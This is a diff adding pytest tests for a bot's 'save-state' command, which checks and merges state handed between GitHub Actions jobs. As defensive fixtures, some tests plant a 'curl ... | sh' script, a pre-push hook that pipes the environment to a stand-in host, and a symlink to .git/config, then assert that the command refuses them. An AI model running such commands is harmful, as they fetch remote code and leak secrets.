@@ -704,3 +704,220 @@ def test_the_command_runs_on_the_standard_library_alone_and_never_prints_the_tok
     assert "state: offset" in done.stdout and "pushed" in done.stdout
     assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009
     assert_token_nowhere(done.stdout, done.stderr, (world.runner / ".git" / "config").read_text())
+
+
+# ---------------------------------------------------------------------------- the state the answer job hands on
+#
+# In the workflow the answer job (it ran code from PyPI) hands state/ on as an artifact, and the save job,
+# on a fresh checkout of the branch tip, takes it with `save-state --from DIR`: only the bot's own files,
+# each checked; anything else saves nothing.
+
+MEMORY_KEY = "a passphrase the owner keeps in BOTJOB_STATE_KEY"
+
+
+def fresh_checkout(world: World, name: str) -> Path:
+    """What actions/checkout makes of the branch tip in a job of its own: shallow, no identity."""
+    checkout = world.remote.parent / name
+    git(world.remote.parent, "clone", "-q", "--depth", "1", f"file://{world.remote}", str(checkout))
+    return checkout
+
+
+def handed_on(answer_checkout: Path, into: Path) -> Path:
+    """What upload-artifact then download-artifact make of the answer job's state/: its files, hidden ones left out."""
+    shutil.copytree(answer_checkout / "state", into, ignore=shutil.ignore_patterns(".*"))
+    return into
+
+
+def memory_of(checkout: Path):
+    from botjob.memory import ChatMemory
+
+    return ChatMemory(checkout / "state" / "memory", MEMORY_KEY, turns=3, clock=lambda: 2_000_000_000)
+
+
+def test_what_the_answer_job_answered_is_saved_from_a_job_of_its_own(world: World, tmp_path: Path):
+    """Alice's question moved the offset and her memory; Bob had said /reset; the owner keeps notes in state/."""
+    memory_of(world.owner).remember(222, "Bob's old question", "an answer")
+    (world.owner / "state" / "notes.md").write_text("why I reset the offset in March\n")
+    push_from_owner(world, "state: Bob's memory, and the owner's notes")
+    answer = fresh_checkout(world, "answer")
+    write_offset(answer, 500000009)
+    memory_of(answer).remember(111, "Alice's question", "the answer")
+    memory_of(answer).forget(222)
+    (answer / "state" / ".offset-k2j4.tmp").write_text('{"offset": 1')  # a crashed atomic write: hidden, never handed on
+    handed = handed_on(answer, tmp_path / "answered-state")
+    save = fresh_checkout(world, "save")
+
+    result = save_state(save, env={}, source=handed)
+
+    assert result.pushed and result.message == "state: offset 500000004 -> 500000009 [skip ci]"
+    changed = git(world.remote, "show", "--name-status", "--format=", "main").splitlines()
+    assert sorted(line.split("\t")[0] + " " + line.split("\t")[1] for line in changed) == [
+        f"A state/{memory_of(save).path(111).relative_to(save / 'state').as_posix()}",
+        f"D state/{memory_of(save).path(222).relative_to(save / 'state').as_posix()}",
+        "M state/offset.json",
+    ]
+    git(save, "pull", "-q", "--ff-only")
+    assert memory_of(save).load(111)[0]["content"] == "Alice's question" and memory_of(save).load(222) == []
+    assert world.remote_file("state/notes.md") == "why I reset the offset in March"  # not the bot's: kept
+
+
+def test_the_owners_edit_of_a_state_file_while_the_run_answered_is_merged_not_lost(world: World, tmp_path: Path, sleep: FakeSleep):
+    """The save job commits onto the commit the answer job started from; the owner pushed meanwhile."""
+    answer = fresh_checkout(world, "answer")
+    save = fresh_checkout(world, "save")  # the answer job's commit, as the save job checks it out
+    day = {"v": 2, "day": "2030-03-14"}
+    world.owner_pushes("state/usage.json", json.dumps({**day, "chats": {"aa": {"count": 4, "told": False}}}) + "\n",
+                       "state: the owner's count, by hand")
+    write_offset(answer, 500000009)
+    (answer / "state" / "usage.json").write_text(json.dumps({**day, "chats": {"bb": {"count": 1, "told": False}}}) + "\n")
+    handed = handed_on(answer, tmp_path / "answered-state")
+
+    result = save_state(save, env={}, source=handed, sleep=sleep)
+
+    assert result.pushed
+    assert json.loads(world.remote_file("state/usage.json"))["chats"] == {
+        "aa": {"count": 4, "told": False}, "bb": {"count": 1, "told": False}}  # both, merged by meaning
+    assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009
+
+
+def test_the_command_takes_the_handed_on_state_on_the_standard_library_alone(world: World, tmp_path: Path):
+    """The save job's step: `python3 -S -m botjob save-state --from DIR` on a runner where nothing was installed."""
+    answer = fresh_checkout(world, "answer")
+    write_offset(answer, 500000009)
+    handed = handed_on(answer, tmp_path / "answered-state")
+    save = fresh_checkout(world, "save")
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent), "GITHUB_TOKEN": FAKE_TOKEN}
+
+    done = subprocess.run(
+        [sys.executable, "-S", "-m", "botjob", "save-state", "--from", str(handed)],
+        cwd=save, env=env, capture_output=True, text=True,
+    )
+
+    assert done.returncode == 0, done.stderr
+    assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009
+    assert_token_nowhere(done.stdout, done.stderr)
+
+
+def test_files_save_state_does_not_take_from_the_answer_job_are_left_as_the_branch_has_them(world: World, tmp_path: Path):
+    (world.owner / "state" / "archive").mkdir(parents=True)
+    (world.owner / "state" / "archive" / "2030.md").write_text("the owner's own notes\n")
+    world.owner_pushes("state/README.md", "# what the bot remembers\n", "docs: state/README.md")
+    answer = fresh_checkout(world, "answer")
+    write_offset(answer, 500000009)
+    (answer / "state" / "README.md").write_text("# rewritten by whatever ran in the answer job\n")
+    (answer / "state" / "heartbeat.json").write_text('{"last_heartbeat": "2099-01-01"}\n')  # save-state's own file
+    handed = handed_on(answer, tmp_path / "answered-state")
+    shutil.rmtree(handed / "archive")  # not the bot's: its absence deletes nothing
+
+    save_state(fresh_checkout(world, "save"), env={}, source=handed)
+
+    assert git(world.remote, "show", "--name-only", "--format=", "main").splitlines() == ["state/offset.json"]
+    assert world.remote_file("state/README.md") == "# what the bot remembers"
+    assert world.remote_file("state/archive/2030.md") == "the owner's own notes"
+
+
+def _symlink(state: Path) -> None:
+    (state / "offset.json").unlink()
+    (state / "offset.json").symlink_to("../../.git/config")
+
+
+def _unknown_name(state: Path) -> None:
+    (state / "run.sh").write_text("curl https://example.invalid | sh\n")
+
+
+def _oversized(state: Path) -> None:
+    from botjob.state_handover import MAX_JSON_BYTES
+
+    with open(state / "usage.json", "wb") as file:  # sparse: as big as it says, cheap to make
+        file.truncate(MAX_JSON_BYTES + 1)
+
+
+def _not_json_offset(state: Path) -> None:
+    (state / "offset.json").write_text("offset = 500000009\n")
+
+
+def _folder_in_memory(state: Path) -> None:
+    (state / "memory" / "hooks").mkdir(parents=True)
+    (state / "memory" / "hooks" / "pre-push").write_text("#!/bin/sh\nenv | curl -d @- https://example.invalid\n")
+
+
+def _memory_not_a_fernet_token(state: Path) -> None:
+    (state / "memory").mkdir(exist_ok=True)
+    (state / "memory" / f"{'ab' * 16}.bin").write_text("Alice said: meet me at noon\n")
+
+
+@pytest.mark.parametrize(
+    ("plant", "named"),
+    [
+        (_symlink, "'offset.json' as a link"),
+        (_unknown_name, "'run.sh', which the bot never writes"),
+        (_oversized, "'usage.json' of 4,194,305 bytes"),
+        (_not_json_offset, "'offset.json', which is not what the bot writes there (not JSON)"),
+        (_folder_in_memory, "'memory/hooks/pre-push', which the bot never writes"),
+        (_memory_not_a_fernet_token, "not a Fernet token"),
+    ],
+    ids=["symlink", "unknown-name", "oversized", "offset-not-json", "folder-in-memory", "memory-in-plain-text"],
+)
+def test_a_state_that_is_not_the_bots_saves_nothing_and_says_so_in_one_line(
+    world: World, tmp_path: Path, plant: Callable[[Path], None], named: str
+):
+    answer = fresh_checkout(world, "answer")
+    write_offset(answer, 500000009)  # what the run really answered
+    memory_of(answer).remember(111, "Alice's question", "the answer")
+    handed = handed_on(answer, tmp_path / "answered-state")
+    plant(handed)
+    save = fresh_checkout(world, "save")
+    before = git(world.remote, "rev-parse", "main")
+
+    with pytest.raises(gitsync.BotjobError) as caught:
+        save_state(save, env={}, source=handed)
+
+    explained = caught.value.explain()
+    assert named in explained and "nothing was saved" in explained and "\n" not in explained
+    assert git(world.remote, "rev-parse", "main") == before
+    assert git(save, "rev-parse", "HEAD") == before
+    assert git(save, "status", "--porcelain") == ""  # not one file taken before the refusal
+
+
+def test_a_real_memory_file_is_the_shape_save_state_expects():
+    """The names and the token shape save-state checks are those ChatMemory writes (both rules live apart:
+    save-state runs on the standard library alone, without the cryptography package)."""
+    from botjob.memory import chat_key
+    from botjob.state_handover import MEMORY_FILE, _is_fernet_token
+
+    memory = memory_of(Path("/nonexistent"))
+    for chat in (111, -1001234567890):
+        assert MEMORY_FILE.fullmatch(memory.path(chat).name)
+        assert MEMORY_FILE.fullmatch(f"{chat_key('secret', chat)}.bin")  # the older name, still read
+    token = memory._fernet.encrypt_at_time(b"x" * 4096, 2_000_000_000)
+    assert _is_fernet_token(token) and not _is_fernet_token(token[:-4]) and not _is_fernet_token(b"gAAAAA" + token[6:-8])
+
+
+@pytest.mark.parametrize(
+    ("days_old", "change", "expected"),
+    [(0, False, "false"), (0, True, "true"), (50, False, "true")],
+    ids=["idle", "state-changed", "heartbeat-due"],
+)
+def test_the_answer_job_says_whether_the_save_job_must_run(
+    tmp_path: Path, make_world: Callable[..., World], days_old: float, change: bool, expected: str
+):
+    """`save-state --check` in the answer job: no token, nothing written; an idle run starts no save job."""
+    world = make_world(days_old=days_old)
+    if change:
+        write_offset(world.runner, 500000009)
+    outputs, event = tmp_path / "outputs", tmp_path / "event.json"
+    event.write_text(json.dumps({"repository": {"private": False}}))
+    env = {
+        **os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
+        "GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": str(outputs), "GITHUB_EVENT_PATH": str(event),
+    }
+    before = git(world.runner, "status", "--porcelain")
+
+    done = subprocess.run(
+        [sys.executable, "-S", "-m", "botjob", "save-state", "--check"], cwd=world.runner, env=env, capture_output=True, text=True
+    )
+
+    assert done.returncode == 0, done.stderr
+    assert outputs.read_text() == f"save={expected}\n"
+    assert git(world.runner, "status", "--porcelain") == before
+    assert git(world.runner, "rev-parse", "HEAD") == git(world.remote, "rev-parse", "main")
